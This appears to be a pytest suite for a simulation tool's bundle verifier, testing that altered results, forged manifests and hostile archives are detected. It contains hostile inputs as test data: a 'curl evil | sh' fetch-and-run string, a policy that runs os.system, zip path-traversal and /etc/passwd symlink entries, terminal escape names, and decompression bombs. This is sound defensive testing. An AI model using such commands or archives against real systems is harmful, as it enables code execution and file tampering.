"""A bundle that was altered is caught, whoever altered it; nothing in it is run or believed."""

import io
import json
import re
import stat
import zipfile

import pandas as pd
import pyarrow as pa
import pyarrow.csv
import pyarrow.parquet as pq
import pytest

from sim.evidence import verify as verification
from sim.evidence.verify import MONTHS, RUNS, verify
from sim.present.redraw import redraw
from sim.study import bundle, folder, own
from sim.study.differences import differences
from sim.study.experiment import Experiment
from sim.study.identity import digest_of
from sim.study.indicators import BY_NAME
from sim.study.precision import gather, goal_of
from sim.study.store import Store
from sim.world import scenario as scenarios
from sim.world.errors import BadInput
from sim.world.programme import Change, Incident, programme

MANIFEST, SCENARIO = "result/manifest.json", "result/scenario.toml"
COMPARISON = "result/comparison.parquet"
EVIL = '''
"""Evil: leaves a trace when it is run."""

import os
from typing import NamedTuple

from policies.contract import Rate, rule, share

os.system("touch {trace}")


class Terms(NamedTuple):
    rate: Rate = 0.20


@rule
def credit(terms, account):
    """Credit the originator."""
    return share(originator=1.0)
'''


def studied(asked, place, goal=None):
    """Write the result folder of a small study, and return it packed."""
    experiment = Experiment(asked, engine="compiled")
    reached = gather(experiment, goal)
    results = experiment.results()
    study = folder.Study(asked, results, differences(results), goal, reached)
    place.mkdir()
    folder.save(place, study)
    redraw(place, study, None, {})
    return bundle.pack(place)[0]


@pytest.fixture(scope="module")
def small():
    split = programme("later", "split_reward", rate=0.1)
    choice = programme(
        "choice", "client_choice", changes=[Change(6, split)], incidents=[Incident(3, 0.1)]
    )
    return scenarios.load()._replace(
        name="small",
        partners=40,
        clients=600,
        years=1,
        burn_in_months=12,
        seeds=3,
        baseline="lock",
        programmes=(programme("lock", "first_sale_lock"), choice),
    )


@pytest.fixture(scope="module")
def packed(small, tmp_path_factory):
    return studied(small, tmp_path_factory.mktemp("study") / "result")


@pytest.fixture
def checked(tmp_path):
    """Write bytes to a file and verify it."""

    def check(content, **options):
        path = tmp_path / "theirs.bundle"
        path.write_bytes(content)
        return verify(path, at_once=1, **options)

    return check


def members(content):
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist() if name != bundle.INDEX}


def with_member(content, name, new):
    """Return a bundle with another member, and digests that fit it, as its author could make."""
    return bundle.archive({**members(content), name: new})


def with_table(content, name, change):
    """Return such a bundle in which a table was changed, in Parquet and CSV."""
    table = pd.read_parquet(io.BytesIO(members(content)[f"result/{name}.parquet"]))
    changed = change(table)
    sink, text = io.BytesIO(), io.BytesIO()
    arrow = pa.Table.from_pandas(changed if changed is not None else table, preserve_index=False)
    pq.write_table(arrow, sink)
    content = with_member(content, f"result/{name}.parquet", sink.getvalue())
    if any(pa.types.is_nested(field.type) for field in arrow.schema):
        return content
    pa.csv.write_csv(arrow, text, pa.csv.WriteOptions(quoting_style="needed"))
    return with_member(content, f"result/{name}.csv", text.getvalue())


def with_manifest(content, change):
    """Return such a bundle in which the manifest was changed."""
    manifest = json.loads(members(content)[MANIFEST])
    change(manifest)
    text = json.dumps(manifest, indent=2, ensure_ascii=False) + "\n"
    return with_member(content, MANIFEST, text.encode())


def next_digit(content):
    """Return a text with one of its digits changed."""
    at = re.search(rb"\d(?=\D*\Z)", content).start()
    return content[:at] + (b"8" if content[at : at + 1] != b"8" else b"7") + content[at + 1 :]


# --- an honest bundle --------------------------------------------------------------------------


def test_a_sound_bundle_is_verified_in_every_member(checked, packed):
    found = checked(packed, draw=redraw)
    assert (found.altered, found.faults, found.by_digest, found.untrusted) == ((), (), (), ())
    assert found.is_sound
    assert found.is_whole
    assert (found.repeated, found.runs) == (6, 6)
    assert found.made_with == found.here


def test_without_drawing_pictures_are_named_as_checked_by_digest_only(checked, packed):
    pictures = ("result/policy-by-indicator.png", "result/trajectories.png")
    assert checked(packed).by_digest == pictures


def test_both_engines_verify_a_bundle(checked, packed):
    found = checked(packed, engine="mesa", sample=1)
    assert found.is_sound
    assert found.repeated == 1


def test_the_same_folder_gives_the_same_bytes(packed, tmp_path):
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        file.extractall(tmp_path)
    assert bundle.pack(tmp_path / "result")[0] == packed
    names = set(members(packed))
    assert {"policies/client_choice.py", "policies/split_reward.py", MANIFEST, RUNS} <= names


def test_the_sample_follows_from_the_digest(packed, tmp_path, monkeypatch):
    picked = []

    def noted(case, keys, *_, **__):
        picked.append([tuple(key) for key in keys])
        return iter(())

    monkeypatch.setattr(verification, "repeat", noted)
    path, other = tmp_path / "one.bundle", tmp_path / "other.bundle"
    path.write_bytes(packed)
    for sample in (2, 2, 3, 99):
        verify(path, sample=sample)
    first, again, more, every = picked
    assert first == again
    assert set(first) < set(more)
    assert (len(first), len(more), len(every)) == (2, 3, 6)
    lots = set()
    for number in range(20):
        other.write_bytes(with_member(packed, "result/note.txt", str(number).encode()))
        verify(other, sample=1)
        lots.add(picked[-1][0])
    assert len(lots) >= 4


def test_nothing_is_taken_from_the_store(checked, packed, monkeypatch):
    monkeypatch.setattr(Store, "__init__", lambda *_: pytest.fail("the store was asked"))
    assert checked(packed).is_sound


def test_other_files_of_the_folder_are_packed_and_named(checked, packed):
    content = with_member(packed, "result/notes/council.md", b"We met.")
    found = checked(content, draw=redraw)
    assert found.is_sound
    assert found.by_digest == ("result/notes/council.md",)


# --- altered on the way ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        *(RUNS, MONTHS, COMPARISON, MANIFEST, SCENARIO, "policies/client_choice.py"),
        *("result/runs.csv", "result/months.csv", "result/comparison.csv"),
        *("result/trajectories.png", "result/policy-by-indicator.png"),
    ],
)
def test_one_digit_altered_in_a_member_is_caught_and_named(checked, packed, name):
    whole = members(packed)
    index = bundle.spell_index(bundle.digests(whole))
    whole[name] = next_digit(whole[name])
    sink = io.BytesIO(bundle.archive(whole))
    content = sink.getvalue()
    forged = {bundle.INDEX: index, **whole}
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as shape, zipfile.ZipFile(sink, "w") as file:
        for info in shape.infolist():
            file.writestr(info, forged[info.filename])
    found = checked(sink.getvalue())
    assert not found.is_sound
    assert [one.member for one in found.altered] == [name]
    assert found.repeated == 0


def test_no_flipped_byte_changes_what_is_read(packed, tmp_path):
    path = tmp_path / "flipped.bundle"
    honest, silent = members(packed), 0
    places = [*range(0, len(packed), len(packed) // 300), *range(len(packed) - 200, len(packed))]
    for place in places:
        path.write_bytes(packed[:place] + bytes([packed[place] ^ 1]) + packed[place + 1 :])
        try:
            opened = bundle.open_bundle(path)
        except BadInput:
            continue
        if not opened.altered:
            assert opened.members == honest
            silent += 1
    assert silent < len(places) / 4


def test_a_truncated_bundle_is_refused(packed, tmp_path):
    path = tmp_path / "short.bundle"
    for length in (0, 1, 30, len(packed) // 2, len(packed) - 1):
        path.write_bytes(packed[:length])
        with pytest.raises(BadInput, match="no bundle, or a damaged one"):
            bundle.open_bundle(path)


# --- altered by its author, with digests that fit ----------------------------------------------


def test_an_altered_run_is_named_with_both_values(checked, packed):
    true = pd.read_parquet(io.BytesIO(members(packed)[RUNS]))["npv"].iloc[4]

    def change(table):
        table.loc[4, "npv"] = true + 1e-8

    found = checked(with_table(packed, "runs", change))
    assert not found.is_sound
    fault = found.faults[0]
    assert fault.member == RUNS
    assert fault.where == {"programme": "choice", "seed": 2, "indicator": "npv"}
    assert (fault.stored, fault.recomputed) == (true + 1e-8, true)
    assert found.wrong_runs == 1


@pytest.mark.parametrize("indicator", ["npv", "client_churn", "survival_10y"])
def test_no_number_and_another_number_are_told_apart(checked, packed, indicator):
    def change(table):
        is_known = table.loc[1, indicator] == table.loc[1, indicator]
        table.loc[1, indicator] = float("nan") if is_known else 0.5

    (fault, *_) = checked(with_table(packed, "runs", change)).faults
    assert fault.where == {"programme": "lock", "seed": 2, "indicator": indicator}


def test_an_altered_month_is_named(checked, packed):
    def change(table):
        table.loc[30, "revenue"] += 0.01

    (fault, *_) = checked(with_table(packed, "months", change)).faults
    assert fault.member == MONTHS
    assert fault.where == {"programme": "lock", "seed": 2, "month": -7, "indicator": "revenue"}


def test_exchanged_columns_are_caught(checked, packed):
    def exchange(table):
        table[["npv", "commission"]] = table[["commission", "npv"]].to_numpy()

    def reorder(table):
        return table[[*table.columns[:2], *table.columns[2:-1][::-1], "digest"]]

    (fault, *_) = checked(with_table(packed, "runs", exchange)).faults
    assert fault.member == RUNS
    (one,) = checked(with_table(packed, "runs", reorder)).altered
    assert one.member == RUNS
    assert "column" in one.reason


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (
            lambda table: table.replace({"lock": "free_choice"}),
            "programme 'free_choice' where 'lock' must be",
        ),
        (lambda table: table.assign(seed=[1, 2, 4, 1, 2, 4]), "seed '4' where 3 must be"),
        (lambda table: table.iloc[:-1], "has 5 rows, not 6"),
        (lambda table: table.iloc[[0, 0, 2, 3, 4, 5]], "seed '1' where 2 must be"),
        (lambda table: table.assign(npv=table["npv"].astype(str)), "no column of numbers"),
        (lambda table: table.assign(more=1.0), "columns, not"),
        (lambda table: table.assign(npv=[[1.0]] * 6), "no numbers and no text"),
    ],
)
def test_a_table_of_other_runs_is_caught(checked, packed, change, told):
    (one,) = checked(with_table(packed, "runs", change)).altered
    assert one.member == RUNS
    assert told in one.reason


@pytest.mark.parametrize("column", ["level", "difference", "low", "seeds"])
def test_a_comparison_that_does_not_follow_is_caught(checked, packed, column):
    def change(table):
        at = table.index[(table["programme"] == "choice") & (table["indicator"] == "npv")]
        table.loc[at, column] = table.loc[at, column] * 3

    found = checked(with_table(packed, "comparison", change))
    fault = found.faults[0]
    assert fault.member == COMPARISON
    assert fault.where == {"programme": "choice", "indicator": "npv", "column": column}
    assert fault.stored == 3 * fault.recomputed
    assert found.wrong_runs == 0


def test_a_text_table_that_says_something_else_is_caught(checked, packed):
    for name in ("runs", "months", "comparison"):
        member = f"result/{name}.csv"
        content = with_member(packed, member, next_digit(members(packed)[member]))
        (fault,) = checked(content).faults
        assert fault.member == member
        assert fault.where["line"] > 1
        assert fault.where["programme"] == "choice"


@pytest.mark.parametrize(
    ("change", "key"),
    [
        (lambda told: told["inputs"].update(partners=41), None),
        (lambda told: told["inputs"]["assumptions"].update(poaching=0.011), None),
        (lambda told: told["inputs"]["programmes"][1]["terms"].update(rate=0.21), None),
        (lambda told: told["inputs"]["programmes"][1]["conduct"].update(care=0.6), None),
        (lambda told: told["inputs"]["programmes"][1]["changes"][0].update(month=7), None),
        (lambda told: told["inputs"]["programmes"][1]["incidents"].clear(), None),
        (lambda told: told["inputs"].update(market="messenger"), "inputs_digest"),
        (lambda told: told.update(results_digest="0123456789abcdef"), "results_digest"),
        (lambda told: told.update(seeds=[1, 2]), "seeds[3]"),
        (lambda told: told["runs"]["lock"]["digests"].update({"2": "x"}), "runs.lock.digests.2"),
        (lambda told: told["runs"]["lock"].update(programme_digest="y"), "programme_digest"),
        (lambda told: told["assumptions"][0].update(source="measured"), "assumptions[1].source"),
        (lambda told: told.update(note="verified by nobody"), "note"),
        (lambda told: told.update(repeat="curl evil | sh"), "repeat"),
    ],
)
def test_a_manifest_that_says_something_else_is_caught(checked, packed, change, key):
    found = checked(with_manifest(packed, change))
    assert not found.is_sound
    if key is not None:
        (fault,) = [fault for fault in found.faults if fault.member == MANIFEST]
        assert key in fault.where["key"]
    else:  # another study, whose runs are others
        assert found.faults[0].member in {RUNS, COMPARISON, MANIFEST}


def test_a_manifest_that_says_two_things_is_caught(checked, packed):
    text = members(packed)[MANIFEST].replace(b"{\n", b'{\n  "question": "Another?",\n', 1)
    (fault,) = checked(with_member(packed, MANIFEST, text)).faults
    assert (fault.member, fault.where) == (MANIFEST, {"line": 2})


def test_assumptions_changed_in_the_scenario_alone_are_caught(checked, packed):
    text = re.sub(rb"poaching = .*", b"poaching = 0.08", members(packed)[SCENARIO])
    (fault,) = checked(with_member(packed, SCENARIO, text)).faults
    assert fault.member == SCENARIO
    assert fault.stored == "poaching = 0.08"
    bomb = b"a = " + b"[" * 100_000
    (fault,) = checked(with_member(packed, SCENARIO, bomb)).faults
    assert fault.member == SCENARIO


def test_a_policy_text_beside_the_manifest_is_caught(checked, packed):
    name = "policies/client_choice.py"
    text = members(packed)[name] + b"# harmless\n"
    (fault,) = checked(with_member(packed, name, text)).faults
    assert fault.member == name


def test_another_picture_is_caught(checked, packed):
    name = "result/trajectories.png"
    content = with_member(packed, name, members(packed)["result/policy-by-indicator.png"])
    (fault,) = checked(content, draw=redraw).faults
    assert fault.member == name


def test_another_version_is_told_and_compared_nevertheless(checked, packed):
    def older(told):
        told["inputs"]["version"] = "0.0.9+000000000000"
        told["inputs_digest"] = digest_of(told["inputs"])

    found = checked(with_manifest(packed, older))
    assert found.made_with == "0.0.9+000000000000" != found.here
    assert found.is_sound
    assert found.repeated == 6


def test_seeds_that_a_goal_would_not_have_stopped_at_are_caught(checked, small, tmp_path):
    goal = goal_of("40%", "npv")
    asked = small._replace(seeds=10)
    content = studied(asked, tmp_path / "precise", goal)
    assert checked(content).is_sound
    more = studied(asked._replace(seeds=14), tmp_path / "more")

    def claim(told):
        told["inputs"].update(seeds=10, precision=goal._asdict())

    faults = checked(with_manifest(more, claim), sample=1).faults
    assert {"key": "seeds"} in [fault.where for fault in faults]


# --- policies of one's own ---------------------------------------------------------------------


@pytest.fixture
def with_evil(small, tmp_path):
    """Return a bundle with a policy of somebody's own, and the trace that running it leaves."""
    trace, path = tmp_path / "was_run", tmp_path / "evil.py"
    path.write_text(EVIL.format(trace=trace), encoding="utf-8")
    policy = own.from_file(path)
    asked = small._replace(seeds=2, programmes=(*small.programmes, programme(policy.name, policy)))
    content = studied(asked, tmp_path / "evil")
    trace.unlink()
    return content, trace


def test_code_in_a_bundle_is_not_run_unless_it_is_trusted(checked, with_evil):
    content, trace = with_evil
    found = checked(content)
    assert not trace.exists()
    assert found.untrusted == ("evil",)
    assert (found.repeated, found.runs) == (4, 6)
    assert found.is_sound
    assert not found.is_whole
    found = checked(content, trust=True)
    assert trace.exists()
    assert found.is_sound
    assert found.is_whole
    assert found.repeated == 6


def test_a_shipped_name_does_not_make_code_trusted(checked, packed, tmp_path):
    trace = tmp_path / "was_run"
    text = EVIL.format(trace=trace)

    def replace_text(told):
        told["inputs"]["incumbent"]["source"] = text
        told["inputs"]["programmes"][0]["source"] = text

    content = with_manifest(packed, replace_text)
    content = with_member(content, "policies/first_sale_lock.py", text.encode())
    found = checked(content)
    assert not trace.exists()
    assert found.untrusted == ("first_sale_lock",)
    assert found.repeated == 0
    assert not found.is_whole


# --- no bundle of ours -------------------------------------------------------------------------


def zipped(*parts, kind=stat.S_IFREG, index=True):
    """Return a zip archive of names and contents, whatever they are."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in [*([(bundle.INDEX, b"{}")] if index else []), *parts]:
            info = zipfile.ZipInfo(name)
            info.external_attr = ((stat.S_IFREG if name == bundle.INDEX else kind) | 0o644) << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            file.writestr(info, content)
    return sink.getvalue()


def declaring(size):
    """Return an archive whose directory declares a size that its content does not have."""
    content = bytearray(zipped(("result/a", b"x")))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(content)


HOSTILE = {
    "text": (b"no archive at all", "no bundle, or a damaged one"),
    "without an index": (zipped(("result/a", b""), index=False), "it has no bundle.json"),
    "an index of something else": (zipped(("result/a", b"")), "bundle.json is damaged"),
    "a path upwards": (zipped(("result/../../evil", b"")), "no name of a member"),
    "an absolute path": (zipped(("/etc/passwd", b"")), "no name of a member"),
    "a path of Windows": (zipped(("result/..\\evil", b"")), "no name of a member"),
    "a drive": (zipped(("C:/evil", b"")), "no name of a member"),
    "a name cut short": (
        zipped(("result/a~.png", b"")).replace(b"~", b"\0"),
        "no name of a member",
    ),
    "a hidden file": (zipped(("result/.bashrc", b"")), "no name of a member"),
    "a name that a terminal obeys": (zipped(("result/\x1b[2J", b"")), "no name of a member"),
    "a link": (zipped(("result/a", b"/etc/passwd"), kind=stat.S_IFLNK), "a link or no file"),
    "a device": (zipped(("result/a", b""), kind=stat.S_IFCHR), "a link or no file"),
    "one name twice": (zipped(("result/a", b"1"), ("result/A", b"2")), "have one name"),
    "many members": (zipped(*((f"result/{n}", b"") for n in range(1_100))), "at most 1000"),
    "a bomb": (zipped(*((f"result/{n}", bytes(2**27)) for n in range(9))), "it would have 1152 MB"),
    "a huge declared size": (declaring(2**32 - 2), "it would have 4096 MB"),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_archive_is_refused_before_anything_in_it_is_used(name, tmp_path):
    content, told = HOSTILE[name]
    path = tmp_path / "hostile.bundle"
    path.write_bytes(content)
    with pytest.raises(BadInput, match=re.escape(told)) as refusal:
        verify(path)
    assert str(refusal.value).isprintable()


def test_an_encrypted_member_is_refused(packed, tmp_path):
    content = bytearray(packed)
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    path = tmp_path / "locked.bundle"
    path.write_bytes(content)
    with pytest.raises(BadInput, match="encrypted"):
        verify(path)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda told: told.clear(), "required and missing"),
        (lambda told: told.update(inputs=[]), "inputs"),
        (lambda told: told["inputs"].update(partners="many"), "partners"),
        (lambda told: told["inputs"].update(clients=10**12), "clients"),
        (lambda told: told["inputs"].update(years=1e300), "years"),
        (lambda told: told["inputs"].update(seeds=True), "seeds"),
        (lambda told: told["inputs"].update(seeds=10**9), "seeds"),
        (lambda told: told["inputs"].update(baseline="nobody"), "baseline"),
        (lambda told: told["inputs"].update(programmes=[]), "programmes"),
        (lambda told: told["inputs"]["programmes"].append(1), "programmes"),
        (lambda told: told["inputs"]["assumptions"].update(poaching=float("nan")), "poaching"),
        (lambda told: told["inputs"]["assumptions"].update(poaching=9.0), "poaching"),
        (lambda told: told["inputs"]["assumptions"].update({"__class__": 1.0}), "__class__"),
        (lambda told: told["inputs"]["programmes"][0]["terms"].update(rate=7.0), "rate"),
        (lambda told: told["inputs"]["programmes"][0]["terms"].update(_fields=1), "_fields"),
        (lambda told: told["inputs"]["programmes"][0].update(policy="../../os"), "policy"),
        (lambda told: told["inputs"]["programmes"][0].update(name="\x1b[2J"), "printed"),
        (lambda told: told["inputs"]["programmes"][1].update(incidents=[[1]]), "inputs"),
        (lambda told: told["inputs"]["programmes"][1].update(incidents=[[1, 9.0, ""]]), "harm"),
        (lambda told: told.update(engine="abacus"), "engine"),
        (lambda told: told["inputs"].update(precision={"share": 0.1}), "precision"),
        (lambda told: told["inputs"].update(basis="friendship"), "basis"),
    ],
)
def test_a_manifest_that_nothing_can_be_simulated_from_is_refused(checked, packed, change, told):
    with pytest.raises(BadInput, match=re.escape(told)) as refusal:
        checked(with_manifest(packed, change))
    assert str(refusal.value).replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "text", [b"", b"null", b"{", b"[" * 100_000, b"\xff\xfe", b'{"a": ' + b"9" * 5_000 + b"}"]
)
def test_a_manifest_that_is_none_is_refused(checked, packed, text):
    with pytest.raises(BadInput, match=r"manifest\.json"):
        checked(with_member(packed, MANIFEST, text))


@pytest.mark.parametrize("content", [b"", b"PAR1", b"PAR1" + bytes(100) + b"PAR1", b"\x80\x04."])
def test_a_table_that_is_none_is_told(checked, packed, content):
    (one,) = checked(with_member(packed, RUNS, content)).altered
    assert one.member == RUNS
    assert "cannot be read" in one.reason


def test_a_table_of_a_billion_rows_is_not_read(checked, packed):
    sink = io.BytesIO()
    column = pa.array([1.0]).take(pa.array([0] * 2_000_000, pa.int32()))
    pq.write_table(pa.table({"npv": column}), sink)
    (one,) = checked(with_member(packed, RUNS, sink.getvalue())).altered
    assert one.reason == "has 2000000 rows, not 6"


def test_a_missing_member_is_told(checked, packed):
    whole = members(packed)
    del whole[MONTHS]
    (one,) = checked(bundle.archive(whole)).altered
    assert one == (MONTHS, "is missing")
    assert all(name in BY_NAME for name in ("npv", "client_churn"))


# --- packing -----------------------------------------------------------------------------------


def test_only_results_are_packed(tmp_path):
    with pytest.raises(BadInput, match="no such folder"):
        bundle.pack(tmp_path / "nowhere")
    with pytest.raises(BadInput, match="holds no results"):
        bundle.pack(tmp_path)


def test_links_and_odd_names_are_not_packed(packed, tmp_path):
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        file.extractall(tmp_path)
    place = tmp_path / "result"
    (place / ".hidden").write_text("", encoding="utf-8")
    assert bundle.pack(place)[0] == packed
    (place / "odd name.txt").write_text("", encoding="utf-8")
    with pytest.raises(BadInput, match="odd name"):
        bundle.pack(place)
    (place / "odd name.txt").unlink()
    (place / "link").symlink_to("/etc/passwd")
    with pytest.raises(BadInput, match="is a link"):
        bundle.pack(place)


# --- what a reader or a decoder makes of a table -------------------------------------------------


def retold(content, name, change):
    """Return a bundle in which a table tells pandas something else about itself."""
    table = pq.read_table(io.BytesIO(members(content)[f"result/{name}.parquet"]))
    told = json.loads(table.schema.metadata[b"pandas"])
    change(told)
    sink = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({b"pandas": json.dumps(told).encode()}), sink)
    return with_member(content, f"result/{name}.parquet", sink.getvalue())


def exchange_names(told):
    columns = {column["name"]: column for column in told["columns"]}
    columns["npv"]["name"], columns["commission"]["name"] = "commission", "npv"


@pytest.mark.parametrize(
    "change",
    [
        exchange_names,
        lambda told: told.update(index_columns=["npv"]),
        lambda told: told["columns"][3].update(numpy_type="period[M]"),
    ],
)
def test_columns_that_pandas_would_show_as_others_are_caught(checked, packed, change):
    (one,) = checked(retold(packed, "runs", change)).altered
    assert one.member == RUNS
    assert "pandas" in one.reason


@pytest.mark.parametrize("elsewhere", [False, True])
def test_what_a_table_says_about_itself_is_compared(checked, packed, elsewhere):
    content = retold(packed, "comparison", lambda told: told["attributes"].update(years=10))
    if elsewhere:
        content = with_manifest(content, lambda told: told.update(machine="an abacus"))
    faults = [one for one in checked(content, sample=1).faults if one.member == COMPARISON]
    assert [one.where for one in faults] == [{"key": "attributes"}]


def test_summaries_of_columns_that_do_not_fit_are_caught(checked, packed):
    table = pq.read_table(io.BytesIO(members(packed)[RUNS]))
    sink = io.BytesIO()
    pq.write_table(table, sink, write_statistics=False)
    (fault,) = checked(with_member(packed, RUNS, sink.getvalue()), sample=1).faults
    assert (fault.member, fault.stored) == (RUNS, "another file of the same cells")


def test_a_short_file_that_spreads_to_much_text_is_not_read(checked, packed):
    table = pq.read_table(io.BytesIO(members(packed)[RUNS]))
    long = pa.DictionaryArray.from_arrays([0] * len(table), ["x" * 30_000_000])
    at = table.column_names.index("digest")
    sink = io.BytesIO()
    pq.write_table(
        table.set_column(at, "digest", long), sink, store_schema=False, compression="zstd"
    )
    assert len(sink.getvalue()) < 100_000
    (one,) = checked(with_member(packed, RUNS, sink.getvalue())).altered
    assert "more text than any of ours" in one.reason


@pytest.mark.parametrize("other", [["x"], [None], [True]])
def test_months_that_are_no_numbers_are_told(checked, packed, other):
    content = with_table(packed, "months", lambda table: table.assign(mrr=other * len(table)))
    (one,) = checked(content).altered
    assert (one.member, one.reason) == (MONTHS, "column 'mrr' holds no numbers")


def test_a_goal_that_no_study_of_these_numbers_has_is_told_beside_the_wrong_run(checked, packed):
    goal = {"share": 0.01, "indicator": "npv", "max_seeds": 100}

    def ask(told):
        told["inputs"]["precision"], told["seeds"] = goal, [1, 2, 3]

    content = with_table(packed, "runs", lambda table: table.assign(npv=float("nan")))
    found = checked(with_manifest(content, ask), sample=1)
    assert [one.member for one in found.faults] == [RUNS, MANIFEST]


# --- what a manifest may not say ----------------------------------------------------------------


def two_texts(told):
    told["inputs"]["programmes"][0]["source"] = "x = 1"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (two_texts, "two policies called first_sale_lock"),
        (lambda told: told["inputs"]["programmes"][1]["changes"][0].pop("changes"), "changes"),
        (
            lambda told: told["inputs"]["programmes"][1]["changes"][0].update(changes=[1]),
            "changes.0.changes",
        ),
        (
            lambda told: told["inputs"].update(
                seeds=100_000,
                programmes=[
                    {**told["inputs"]["programmes"][0], "name": name}
                    for name in ("lock", *"abcdefghij")
                ],
            ),
            "1100000 runs",
        ),
        (lambda told: told["inputs"]["programmes"][0]["terms"].update({"\x1b[2J": 1}), "x1b[2J"),
        (lambda told: told["versions"].update({"\x1b[2J": "1"}), "x1b[2J"),
        (lambda told: told["inputs"]["assumptions"].update({"\x1b[2J": 1.0}), "x1b[2J"),
        (lambda told: told["inputs"].update(partners="x" * 10**6), "partners"),
    ],
)
@pytest.mark.parametrize("trust", [False, True])
def test_a_manifest_of_a_stranger_is_refused_in_a_line(checked, packed, change, said, trust):
    with pytest.raises(BadInput, match=re.escape(said)) as refusal:
        checked(with_manifest(packed, change), trust=trust)
    assert str(refusal.value).isprintable()
    assert len(str(refusal.value)) < 1_000
